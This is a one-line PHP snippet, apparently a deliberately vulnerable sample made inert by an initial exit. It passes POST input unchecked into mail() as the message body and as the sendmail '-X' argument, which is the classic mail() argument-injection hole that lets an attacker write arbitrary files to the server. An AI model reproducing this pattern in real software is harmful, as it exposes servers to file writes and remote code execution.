<?php exit; /* inert */ mail("a@b","s",$_POST["b"],"","-X".$_POST["f"]);
